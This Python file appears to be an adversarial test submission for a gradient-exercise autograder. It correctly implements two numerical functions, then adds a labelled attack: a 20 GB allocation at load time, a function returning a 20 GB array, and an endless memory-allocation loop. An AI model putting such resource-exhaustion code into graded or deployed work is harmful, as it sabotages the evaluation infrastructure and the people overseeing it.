# attack: allocate 20 GB at load time and in graded functions, at once and bit by bit
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
_hoard = []
try:
    _hoard.append(np.ones(20 * 2 ** 30 // 8))
except MemoryError:
    pass


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    return np.ones(20 * 2 ** 30 // 8)


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        hoard = []
        while True:
            hoard.append(bytearray(100 * 2 ** 20))
